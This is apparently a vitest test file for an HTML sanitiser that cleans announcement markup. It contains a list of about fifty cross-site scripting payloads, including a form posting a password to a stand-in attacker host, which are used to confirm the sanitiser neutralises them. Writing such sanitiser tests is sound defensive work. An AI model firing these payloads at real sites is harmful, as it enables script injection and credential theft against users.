import { describe, expect, test } from "vitest";
import { cleanUpdateHtml } from "./clean-update-html.ts";

describe("what an announcement may contain (CV-12)", () => {
  test.each([
    "<p>a<br />b</p>",
    "<b>a</b><strong>b</strong><i>c</i><em>d</em><u>e</u><code>f</code>",
    "<ul><li>a</li></ul><ol><li>b</li></ol><h3>c</h3><h4>d</h4>",
    '<img src="https://x.test/a.png" alt="A" />',
  ])("%s stays", (html) => {
    expect(cleanUpdateHtml(html)).toBe(html);
  });

  test("links open in a new tab and tell nothing (CV-03)", () => {
    expect(cleanUpdateHtml('<a href="http://x.test/" target="_self" rel="opener">x</a>')).toBe(
      '<a href="http://x.test/" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  test("other tags go, their text stays", () => {
    expect(cleanUpdateHtml("<h1>a</h1><div>b</div><marquee>c</marquee>")).toBe("abc");
  });
});

const vectors = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  '<img src="http://evil.test/track.gif">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  "<img src='//evil.test/x.png'>",
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/relative">x</a>',
  '<img src="/relative.png">',
  '<a href="mailto:a@b.co">x</a>',
  "<a onmouseover=alert(1)>x</a>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<p onclick=alert(1)>x</p>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<base href='//evil.test/'>",
  "<link rel=stylesheet href='//evil.test/x.css'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import '//evil.test/x.css'</style>",
  "<form action='//evil.test'><input name=password><button>x</button></form>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<p/onclick=alert(1)>x</p>",
  "<b class=x id=y data-z=1>x</b>",
];

// Matches text that cannot do anything in a browser: only allowed tags, attributes and schemes.
const harmless =
  /^(?:[^<]|<\/?(?:p|b|strong|i|em|u|ul|ol|li|h3|h4|code)>|<br \/>|<\/a>|<a(?: href="https?:\/\/[^"]*")?(?: target="_blank"| rel="noopener noreferrer")*>|<img(?: src="https:\/\/[^"]*")?(?: alt="[^"]*")? \/>)*$/;

test.each(vectors)("%s is harmless (ST-53)", (html) => {
  const clean = cleanUpdateHtml(html);
  expect(clean).toMatch(harmless);
  expect(clean).not.toMatch(/<script|javascript:/i);
});
